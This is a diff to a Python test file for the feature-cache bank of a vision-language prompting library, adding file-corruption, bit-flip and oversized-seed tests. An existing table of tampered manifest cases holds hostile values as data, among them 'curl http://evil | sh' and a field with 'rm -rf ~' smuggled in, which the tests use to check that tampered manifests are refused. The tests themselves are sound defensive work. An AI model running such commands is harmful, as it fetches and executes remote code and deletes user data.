@@ -34,7 +34,7 @@ from vlprompt.data.cache.image_keys import image_key
 from vlprompt.data.cache.portable import Manifest, pack, unpack
 from vlprompt.data.dataset import Item
 from vlprompt.data.disk import complain
-from vlprompt.data.sources.banked import Contents
+from vlprompt.data.sources.banked import Contents, text_of
 from vlprompt.data.sources.banked import read as read_contents
 from vlprompt.data.sources.files import Files
 from vlprompt.data.transforms import Augment
@@ -176,7 +176,16 @@ def test_a_damaged_or_deleted_file_is_made_again(tmp_path: Path) -> None:
     split = load("tiny").split("test")
     whole = bank_of(tmp_path).features(split)
     (path,) = tmp_path.rglob("*.safetensors")
-    for damage in (lambda: path.write_bytes(b"nothing"), lambda: path.write_bytes(path.read_bytes()[:-9]), path.unlink):
+
+    def zeros() -> None:
+        path.write_bytes(path.read_bytes()[:-900] + bytes(900))
+
+    for damage in (
+        lambda: path.write_bytes(b"nothing"),
+        lambda: path.write_bytes(path.read_bytes()[:-9]),
+        zeros,
+        path.unlink,
+    ):
         damage()
         bank = bank_of(tmp_path)
         assert torch.equal(bank.features(split), whole)
@@ -188,7 +197,7 @@ def test_a_damaged_or_deleted_file_is_made_again(tmp_path: Path) -> None:
 
 def test_a_full_bank_stores_no_more_and_says_so(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
     fresh_process()
-    files = FeatureFiles(tmp_path / "tower", 1300)
+    files = FeatureFiles(tmp_path / "tower", 1000)
     files.write("crop", {"a": torch.ones(100)})
     files.write("crop", {"b": torch.ones(200)})
     assert files.read("crop", ["a", "b"]).keys() == {"a"}
@@ -278,7 +287,7 @@ def test_methods_that_edit_the_image_tower_have_no_use_for_a_bank(here: Path) ->
 
 def test_features_that_cannot_be_stored_are_no_success(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     path = packed(here)
-    monkeypatch.setattr("vlprompt.data.cache.feature_files.save_file", full_disk)
+    monkeypatch.setattr(Path, "write_bytes", full_disk)
     check_mistake(ask(cli.main, ["bank", "unpack", str(path)]), ["not all features could be stored"], here)
 
 
@@ -370,6 +379,8 @@ CHANGES: dict[str, Change] = {
     "precision": changed(about={"model": "m", "precision": "fp32; rm -rf ~"}),
     "command": changed(command="curl http://evil | sh"),
     "seeds": changed(seeds=["1; rm"]),
+    "endless seeds": changed(seeds=list(range(2000))),
+    "a huge seed": changed(seeds=[10**4000]),
     "no hash": changed(members={}),
     "hash": changed(members={CROP: "0" * 64, WORLD: "0" * 64}),
     "missing member": without(CROP),
@@ -434,6 +445,18 @@ def test_any_bit_of_a_packed_bank(tmp_path: Path, place: float, bit: int) -> Non
     rows = FeatureFiles(root / "0123456789abcdef", 10**9).read("crop", ["ab"])
     assert torch.equal(rows["ab"], torch.ones(4))
     assert read_contents(root / WORLD) == CONTENTS
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.floats(0, 1, exclude_max=True), st.integers(0, 7))
+def test_any_bit_of_an_unpacked_data_set(tmp_path: Path, place: float, bit: int) -> None:
+    """Its labels cannot be made again: it is right, or refused."""
+    path = tmp_path / "00ff00ff.json"
+    content = bytearray(text_of(CONTENTS).encode())
+    content[int(place * len(content))] ^= 1 << bit
+    path.write_bytes(content)
+    with contextlib.suppress(UserError):
+        assert read_contents(path) == CONTENTS
 
 
 def test_no_foreign_command_is_shown_as_what_to_run(here: Path) -> None:
